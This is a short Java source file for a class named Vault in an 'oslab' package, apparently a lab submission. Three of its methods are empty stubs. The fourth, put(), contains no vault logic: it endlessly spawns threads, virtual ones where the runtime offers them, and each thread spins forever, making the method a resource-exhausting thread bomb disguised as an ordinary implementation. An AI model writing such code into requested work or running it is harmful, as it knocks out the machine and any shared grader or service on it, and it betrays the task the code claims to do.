package oslab.vault;

import java.util.List;
import java.util.concurrent.ThreadFactory;

public class Vault {
    public void put(String name, int amount) {
        ThreadFactory threads = Thread::new;
        try {
            Object builder = Thread.class.getMethod("ofVirtual").invoke(null);
            threads = (ThreadFactory) Class.forName("java.lang.Thread$Builder").getMethod("factory").invoke(builder);
        } catch (ReflectiveOperationException none) {
            System.out.println(none);
        }
        while (true) {
            threads.newThread(() -> {
                        while (true) {
                            Thread.yield();
                        }
                    })
                    .start();
        }
    }

    public void add(String name, int amount) {}

    public int amount(String name) {
        return 0;
    }

    public List<String> names() {
        return List.of();
    }
}
